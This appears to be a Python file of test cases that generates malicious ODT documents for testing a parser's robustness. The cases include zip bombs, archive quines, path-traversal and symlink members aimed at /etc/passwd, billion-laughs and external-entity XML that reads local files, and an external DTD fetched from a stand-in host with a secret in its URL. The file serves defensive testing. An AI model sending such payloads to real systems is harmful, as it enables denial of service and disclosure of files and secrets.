# SPDX-License-Identifier: GPL-3.0-or-later
"""Hostile packages and XML, as ODT."""
import random

from archive import Member, archive, fifield, quine
from cases import MEGA, SECRET, case

OASIS = "urn:oasis:names:tc:opendocument:xmlns:"
TEXT = "application/vnd.oasis.opendocument.text"
MANIFEST = (f'<?xml version="1.0"?><m:manifest xmlns:m="{OASIS}manifest:1.0"><m:file-entry '
            f'm:full-path="/" m:media-type="{TEXT}"/><m:file-entry m:full-path="content.xml" '
            'm:media-type="text/xml"/></m:manifest>')


def paragraph(text):
    return f"<text:p>{text}</text:p>"


def content(body, before=""):
    lead = paragraph(f"Child&#39;s name: Ada {SECRET}")
    return (f'<?xml version="1.0"?>{before}<office:document-content xmlns:office="{OASIS}'
            f'office:1.0" xmlns:text="{OASIS}text:1.0" xmlns:table="{OASIS}table:1.0" '
            f'office:version="1.3"><office:body><office:text>{lead}{body}</office:text>'
            '</office:body></office:document-content>')


def odt(body="", more=(), main=None, before="", **how):
    main = main or Member("content.xml", content(body, before), **how)
    return archive([Member("mimetype", TEXT, method=0), Member("META-INF/manifest.xml", MANIFEST),
                    main, *more])


@case("bad-inflates-without-end.odt")
def _():
    return odt(main=Member("content.xml", content(" " * (64 * MEGA))))


@case("bad-inflates-to-more-than-it-says.odt")
def _():
    return odt(main=Member("content.xml", content(paragraph("a" * (64 * MEGA))), size=5000))


@case("bad-overlapping.odt")
def _():
    return fifield([Member("mimetype", TEXT, method=0), Member("META-INF/manifest.xml", MANIFEST),
                    Member("content.xml", content(paragraph("a")))], 150, 8 * MEGA)


@case("bad-quine.odt")
def _():
    return quine(b"content.xml")


@case("any-quine-inside.odt")
def _():
    return odt(more=[Member("r.zip", quine(b"r.zip"), method=0)])


@case("any-nested.odt")
def _():
    inner = archive([Member("0.bin", b"\0" * (8 * MEGA))])
    for level in range(6):
        inner = archive([Member(f"{n}.zip", inner) for n in range(10)])
    return odt(more=[Member("Object 1/inner.zip", inner)])


@case("any-path-leads-outside.odt")
def _():
    return odt(more=[Member(f"../../{SECRET}.txt", SECRET),
                     Member(f"/tmp/{SECRET}.txt", SECRET)])


@case("bad-one-name-twice.odt")
def _():
    return odt(more=[Member("content.xml", content(paragraph("another")))])


@case("bad-one-name-in-two-cases.odt")
def _():
    return odt(more=[Member("Content.XML", content(paragraph("another")))])


@case("bad-symlink.odt")
def _():
    return odt(main=Member("content.xml", f"/etc/passwd{SECRET}", method=0, made_by=0x0314,
                           attributes=0o120777 << 16))


@case("bad-billion-laughs.odt")
def _():
    lols = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return odt(paragraph("&l9;"), before=f'<!DOCTYPE o [<!ENTITY l0 "{SECRET}">{lols}]>')


@case("bad-external-entity.odt")
def _():
    return odt(paragraph("&x;"), before='<!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]>')


@case("bad-external-dtd.odt")
def _():
    return odt(before=f'<!DOCTYPE o SYSTEM "http://192.0.2.1/{SECRET}.dtd">')


@case("bad-unknown-entity.odt")
def _():
    return odt(paragraph(f"&{SECRET};"))


@case("bad-nested-elements.odt")
def _():
    return odt("<text:span>" * 200000)


@case("bad-many-attributes.odt")
def _():
    return odt("<text:p " + " ".join(f'text:a{n}=""' for n in range(200000)) + "/>", method=0)


@case("bad-attribute-of-megabytes.odt")
def _():
    noise = random.Random(7).randbytes(3 * MEGA // 4).hex()
    return odt(f'<text:p text:x="{noise}"/>', method=0)


@case("bad-endless-paragraph.odt")
def _():
    return odt(paragraph(random.Random(7).randbytes(MEGA).hex() * 9), method=0)


# What OpenDocument counts instead of writing it down.

@case("any-billions-of-spaces.odt")
def _():
    return odt(paragraph('a<text:s text:c="2000000000"/>b' * 50))


@case("any-billions-of-cells.odt")
def _():
    cell = f'<table:table-cell table:number-columns-repeated="2000000000">{paragraph("a")}' \
        '</table:table-cell>'
    return odt('<table:table><table:table-column table:number-columns-repeated="2000000000"/>'
               f'<table:table-row table:number-rows-repeated="2000000000">{cell}'
               '</table:table-row></table:table>')


@case("bad-broken-xml.odt")
def _():
    return odt(f"<text:p><{SECRET}></text:p>")


@case("bad-invalid-utf8.odt")
def _():
    whole = content(paragraph("Ada X")).encode().replace(b"X", b"\xc3\x28\xff" + SECRET.encode())
    return odt(main=Member("content.xml", whole))


@case("any-bidi.odt")
def _():
    return odt(paragraph(f"Mother: Jane \u202e{SECRET[::-1]}\u202c and \u2066Jane {SECRET}\u2069"))
